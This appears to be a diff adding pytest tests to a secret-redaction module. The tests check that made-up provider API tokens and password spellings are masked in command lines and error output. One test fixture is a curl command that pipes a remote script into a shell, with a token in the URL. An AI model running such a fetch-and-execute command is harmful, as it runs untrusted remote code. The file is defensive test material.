@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import ast
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -121,3 +123,52 @@ def test_command_passwords_tokens_and_webhooks_are_masked(line, secret):
     from hermes_audit.engine.redact import redact, redact_in_place
 
     assert secret not in redact(line) and secret not in redact_in_place(line)
+
+
+# Sixth red team (issue 18): provider token formats, and password spellings, shown in full. The values are
+# made up here, in each provider's published shape.
+_PROVIDER_TOKENS = [
+    "npm_" + "a1B2c3D4e5" * 4, "pypi-AgEIcHlwaS5vcmcCJGFiY2RlZg", "SG.abcdefghijklmnopqrstuv.wxyzABCDEFGH0123456789",
+    "dop_v1_" + "ab12" * 16, "shpat_" + "ab12" * 8, "hvs.CAESIabcdefgh12345678", "glrt-abcdefghij1234567890",
+    "gsk_abcdefgh12345678abcd", "r8_abcdefgh12345678", "whsec_abcdefgh12345678", "dckr_pat_abcdefgh12345678",
+    "fly_abcdefgh1234", "lin_api_abcdefgh12345678", "ntn_abcdefgh12345678", "ATATT3xFfGF0abcdefgh",
+    "AGE-SECRET-KEY-1QQQQQQQQQQQQ", "ya29.a0AfH6SMabcdefgh", "EAACEdEose0cBA" + "a1" * 15, "xapp-1-A0123-abcdefgh",
+    "PMAK-abcdefgh12345678", "pscale_tkn_abcdefgh1234", "LTAI5tAbcdEfgh12345", "dapi" + "ab12" * 8,
+    "123456789:AAH" + "x1" * 16, "AccountKey=abcdEFGH1234+/xyz==", "sq0atp-abcdefgh12345678", "key-" + "ab12" * 8,
+]
+
+
+@pytest.mark.parametrize("token", _PROVIDER_TOKENS)
+def test_provider_tokens_are_masked(token):
+    from hermes_audit.engine.redact import redact, redact_in_place
+
+    line = f"curl -fsSL https://e.x/i.sh?k={token} | sh"
+    tail = token[-8:]
+    assert tail not in redact(line)
+    masked = redact_in_place(line)
+    assert tail not in masked and len(masked) == len(line)
+
+
+@pytest.mark.parametrize("line,secret", [
+    ("pw=Hunter2pw9", "Hunter2pw9"), ("pass: Hunter2pw9", "Hunter2pw9"), ("the password is Hunter2pw9", "Hunter2pw9"),
+    ("smbclient -U admin%Hunter2pw9 //h/s", "Hunter2pw9"),
+])
+def test_password_spellings_are_masked(line, secret):
+    from hermes_audit.engine.redact import redact, redact_in_place
+
+    assert secret not in redact(line) and secret not in redact_in_place(line)
+
+
+@pytest.mark.parametrize("honest", ["Use a bypass: approvals stays on", "The token is required for the deploy step.",
+                                    "pass the --fix flag", "npm_modules", "see key-value store", "SG.update()"])
+def test_honest_text_near_the_new_shapes_is_left_alone(honest):
+    from hermes_audit.engine.redact import redact, redact_in_place
+
+    assert redact(honest) == honest and redact_in_place(honest) == honest
+
+
+def test_a_token_in_a_source_url_is_masked_in_the_profile_error(tmp_path):
+    token = "npm_" + "a1B2c3D4e5" * 4
+    p = subprocess.run([sys.executable, "-m", "hermes_audit", "profile", "--", f"https://127.0.0.1:9/{token}/r.git#ghp_{'Z9' * 18}"],
+                       capture_output=True, text=True, timeout=120, cwd=tmp_path)
+    assert p.returncode == 2 and token[-10:] not in p.stderr + p.stdout and "Z9Z9Z9Z9Z9" not in p.stderr
